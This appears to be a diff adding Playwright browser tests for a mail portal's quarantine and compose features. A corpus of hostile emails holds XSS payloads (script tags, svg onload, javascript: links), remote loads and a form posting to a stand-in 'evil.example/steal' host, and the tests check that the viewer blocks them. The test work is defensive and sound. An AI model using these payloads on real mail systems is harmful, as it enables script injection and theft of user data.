@@ -1,0 +1,144 @@
+"""The mailbox user's mail in chromium: a hostile corpus, bulk actions, compose with an upload."""
+
+from __future__ import annotations
+
+import mailbox
+from pathlib import Path
+
+import pytest
+from flask import Flask
+from playwright.sync_api import Page, expect
+
+from portal.extensions import db
+from portal.integrations.mailstore import maildir_root
+from portal.models import Domain
+from tests.services_runtime import smtp_server
+from tests.world import PASSWORD, World
+
+pytestmark = pytest.mark.browser
+
+EVIL = "evil.example"
+
+
+def _html(fuglu_id: str, html: str, content_type: str = "text/html") -> bytes:
+    return (f"From: attacker@bad.example\r\nSubject: {fuglu_id}\r\nX-Fuglu-Id: {fuglu_id}\r\n"
+            f"MIME-Version: 1.0\r\nContent-Type: {content_type}; charset=utf-8\r\n\r\n{html}\r\n").encode()
+
+
+def _nested(depth: int) -> bytes:
+    head = b"From: a@bad.example\r\nSubject: nested\r\nX-Fuglu-Id: nested\r\nMIME-Version: 1.0\r\n"
+    body = b"<p>deep</p><img src=https://evil.example/deep.png>"
+    for level in range(depth):
+        body = (f"Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n".encode() + body
+                + f"\r\n--b{level}--\r\n".encode())
+    return head + body
+
+
+CORPUS = {
+    "css": _html("css", f'<style>@import url(https://{EVIL}/x.css);</style>'
+                        f'<p style="background:url(https://{EVIL}/bg.png)">css</p>'),
+    "srcset": _html("srcset", f'<img srcset="https://{EVIL}/a.png 1x" src="cid:x"><picture>'
+                              f'<source srcset="https://{EVIL}/b.png"><img src="cid:y"></picture><p>srcset</p>'),
+    "base-meta": _html("base-meta", f'<base href="https://{EVIL}/"><meta http-equiv="refresh" '
+                                    f'content="0;url=https://{EVIL}/"><p><a href="/rel">base</a></p>'),
+    "form": _html("form", f'<form action="https://{EVIL}/steal"><input name="p"><button>go</button></form><p>form</p>'),
+    "svg-math": _html("svg-math", '<svg onload="alert(1)"><script>alert(2)</script></svg>'
+                                  '<math><mtext><img src=x onerror=alert(3)></mtext></math><p>svg</p>'),
+    "handlers": _html("handlers", '<p onmouseover="alert(1)" hx-get="/me/" data-x="1">handlers</p>'
+                                  '<a href="javascript:alert(4)">js</a><iframe src="javascript:alert(5)"></iframe>'),
+    "lying": _html("lying", "<script>alert(6)</script><p>lying</p>", content_type="text/plain"),
+    "charset": ("From: a@bad.example\r\nSubject: =?x-unknown?B?////?=\r\nX-Fuglu-Id: charset\r\n"
+                "Content-Type: text/html; charset=x-unknown\r\n\r\n<p>\xff\xfe charset</p>\r\n").encode("latin-1"),
+    "broken": (b"From: a@bad.example\r\nSubject: broken\r\nX-Fuglu-Id: broken\r\nMIME-Version: 1.0\r\n"
+               b"Content-Type: multipart/alternative; boundary=\"zz\"\r\n\r\n--zz\r\nContent-Type: text/html\r\n"
+               b"Content-Transfer-Encoding: base64\r\n\r\n!!!not base64<script>alert(7)</script>\r\n"),  # no end
+    "nested": _nested(60),
+}
+
+
+def _store(app: Flask, messages: dict[str, bytes]) -> None:
+    with app.app_context():
+        root = maildir_root(Path(app.config["MAIL_ROOT"]), "user@a.example")
+        quarantine = mailbox.Maildir(str(root)).get_folder("Quarantine")
+        for raw in messages.values():
+            quarantine.add(mailbox.MaildirMessage(raw))
+
+
+def _log_in(page: Page, live_url: str) -> None:
+    page.goto(f"{live_url}/me/login")
+    page.fill("#f-email", "user@a.example")
+    page.fill("#f-password", PASSWORD)
+    page.click("button[type=submit]:has-text('Log in')")
+
+
+def test_hostile_corpus_in_the_browser(app: Flask, page: Page, live_url: str, world: World) -> None:
+    """No dialog fires, no request leaves for another host, the frame reaches nothing of the page."""
+    _store(app, CORPUS)
+    dialogs: list[str] = []
+    remote: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.on("request", lambda request: remote.append(request.url) if _leaves(request.url) else None)
+    _log_in(page, live_url)
+    page.goto(f"{live_url}/me/quarantine")
+    expect(page.locator("#quarantine")).to_contain_text("nested")
+    for fuglu_id in CORPUS:
+        response = page.goto(f"{live_url}/me/quarantine/message?id={fuglu_id}")
+        assert response is not None and response.status == 200, fuglu_id
+        frame = page.locator("#message-body")
+        if frame.count():
+            assert page.evaluate("document.getElementById('message-body').contentDocument") is None, fuglu_id
+            links = page.frame_locator("#message-body").locator("a")
+            if links.count():
+                links.first.click()
+        page.wait_for_timeout(150)
+        assert page.url.startswith(live_url), fuglu_id  # neither base, meta refresh nor a link moved the page
+    assert dialogs == [] and remote == []
+    assert page.locator("#message-text").count() or page.locator("#message-body").count()
+
+
+@pytest.fixture
+def relay(app: Flask, world: World):  # type: ignore[no-untyped-def]
+    with smtp_server() as (sink, port):
+        with app.app_context():
+            db.session.get(Domain, world.pk["A"]).platforms[0].transport_port = port
+            db.session.commit()
+        yield sink
+
+
+def test_select_all_and_delete(app: Flask, page: Page, live_url: str, world: World) -> None:
+    _store(app, {k: CORPUS[k] for k in ("css", "form")})
+    questions: list[str] = []
+    page.on("dialog", lambda dialog: (questions.append(dialog.message), dialog.accept()))
+    _log_in(page, live_url)
+    page.goto(f"{live_url}/me/quarantine")
+    expect(page.locator("#quarantine tbody tr")).to_have_count(4)
+    page.check("#select-all")
+    expect(page.locator("#quarantine input[name=ids]:checked")).to_have_count(4)
+    page.click("#bulk-actions button[value=delete]")
+    expect(page.locator(".flash-success")).to_contain_text("4 messages deleted")
+    expect(page.locator("#quarantine")).to_contain_text("Your quarantine is empty")
+    assert questions and "Delete" in questions[0]
+
+
+def test_compose_with_an_upload(app: Flask, page: Page, live_url: str, world: World, relay, tmp_path: Path) -> None:
+    upload = tmp_path / "figures.csv"
+    upload.write_bytes(b"a,b\n" * 50_000)
+    _log_in(page, live_url)
+    page.click("nav >> text=Write")
+    page.set_input_files("#f-file", str(upload))
+    page.click("#upload-form button[type=submit]")
+    expect(page.locator("#attachment-list")).to_contain_text("figures.csv")
+    expect(page.locator("#upload-progress")).to_be_hidden()
+    page.fill("#f-to", "bob@b.example")
+    page.fill("#f-subject", "Figures")
+    page.fill("#f-body", "Here they are.")
+    page.click("#send")
+    expect(page.locator(".flash-success")).to_contain_text("sent to 1 recipient")
+    (_sender, recipients, raw), = relay.messages
+    assert recipients == ["bob@b.example"] and b'filename="figures.csv"' in raw
+    expect(page.locator("#attachment-list")).to_contain_text("No file attached")
+
+
+def _leaves(url: str) -> bool:
+    """A request for another host (cid: and data: ones stay in the page and fail there)."""
+    return url.startswith(("http:", "https:", "//")) and not url.startswith("http://127.0.0.1:")
